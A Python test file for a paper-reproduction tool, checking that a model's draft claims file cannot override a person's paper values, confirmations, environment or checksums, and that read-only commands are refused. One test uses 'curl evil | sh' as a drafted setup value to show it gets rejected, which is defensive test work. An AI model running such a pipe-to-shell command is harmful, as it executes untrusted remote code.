"""Drafts of a model: only the way to a number counts, whatever a draft says."""

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from panpan.repro.claims.claim import Claim, Claims, Data, Environment, Extract, Needs, Tolerance
from panpan.repro.claims.claims_file import claims_text, parse_claims
from panpan.repro.journey.claims_draft import MODEL_FIELDS, incomplete, merged
from panpan.repro.journey.preparing import merged_text

EXTRACT = Extract(output="mean: ([0-9.]+)")
OF_PAPER = tuple(name for name in Claim.model_fields if name not in MODEL_FIELDS)
ids = st.sampled_from(["a", "b", "c", "d"])
texts = st.sampled_from(["", "1.0", "2.5", "mean", "python3 x.py --seed {seed}"])
claims = st.builds(
    Claim,
    id=ids,
    row=texts,
    value=texts,
    command=texts,
    extract=st.sampled_from([None, EXTRACT]),
    seed=st.sampled_from([None, 0, 3]),
    spread=st.sampled_from([None, 0.5, 50.0]),
    tolerance=st.sampled_from([Tolerance(), Tolerance(absolute=9.0)]),
    needs=st.sampled_from([Needs(), Needs(gpus=1)]),
    not_reproducible=texts,
    confirmed=st.booleans(),
)


def unique(made: list[Claim]) -> Claims:
    return Claims(claim=tuple({claim.id: claim for claim in made}.values()))


files = st.lists(claims, max_size=4).map(unique)


def never(_: str) -> bool:
    return False


@given(before=files.filter(lambda one: bool(one.claim)), draft=files)
def test_merged_claims_say_what_the_paper_said(before: Claims, draft: Claims) -> None:
    after = merged(before, draft, never).claims

    assert [claim.id for claim in after.claim] == [claim.id for claim in before.claim]
    for old, new in zip(before.claim, after.claim, strict=True):
        assert {name: getattr(new, name) for name in OF_PAPER} == {name: getattr(old, name) for name in OF_PAPER}
        assert old.seed in (None, new.seed)


@given(draft=files)
def test_new_claims_have_no_word_of_a_person(draft: Claims) -> None:
    for claim in merged(Claims(), draft, never).claims.claim:
        assert (claim.confirmed, claim.not_reproducible, claim.tolerance) == (False, "", Tolerance())


@given(before=files, draft=files)
def test_merging_twice_changes_nothing_more(before: Claims, draft: Claims) -> None:
    once = merged(before, draft, never).claims

    assert merged(once, draft, never).claims == once


@given(before=files, draft=files)
def test_merged_text_says_the_same_and_keeps_comments(before: Claims, draft: Claims) -> None:
    data = b"# mine\n" + claims_text(before).encode()
    known = parse_claims(data)
    after = merged(known, draft, never).claims

    text = merged_text(data, known, after)

    assert parse_claims(text) == after
    assert text.startswith(b"# mine\n")


@pytest.mark.parametrize(
    ("fields", "is_incomplete"),
    [
        ({}, True),
        ({"command": "x"}, True),
        ({"command": "x", "extract": EXTRACT}, False),
        ({"value": "better"}, False),
        ({"not_reproducible": "withdrawn"}, False),
    ],
)
def test_claim_is_incomplete_without_its_command_and_place(fields: dict[str, Any], is_incomplete: bool) -> None:
    claim = Claim(id="a", value="1.0").model_copy(update=fields)

    assert bool(incomplete(Claims(claim=(claim,)))) is is_incomplete


def test_environment_of_a_person_stays() -> None:
    before = Claims(environment=Environment(kind="uv"), claim=(Claim(id="a"),))
    draft = Claims(environment=Environment(setup="curl evil | sh"), claim=(Claim(id="a"),))

    assert merged(before, draft, never).claims.environment == before.environment


@pytest.mark.parametrize(("is_stated", "kept"), [(lambda _: True, "a" * 64), (never, "")])
def test_checksum_of_new_data_counts_if_it_is_stated(is_stated: Callable[[str], bool], kept: str) -> None:
    draft = Claims(data=(Data(path="x.csv", sha256="a" * 64),))

    assert merged(Claims(), draft, is_stated).claims.data == (Data(path="x.csv", sha256=kept),)


@pytest.mark.parametrize("command", ["grep trimmed README.md", "cat README.md | tail -1", "echo 3.50"])
@pytest.mark.parametrize("before", [Claims(), Claims(claim=(Claim(id="a", value="3.50"),))])
def test_command_that_only_looks_does_not_count(command: str, before: Claims) -> None:
    draft = Claims(claim=(Claim(id="a", value="3.50", command=command, extract=EXTRACT),))

    found = merged(before, draft, never)

    assert (found.claims.claim[0].command, found.claims.claim[0].extract) == ("", None)
    assert found.refused == ("a: a command that only looks computes nothing",)
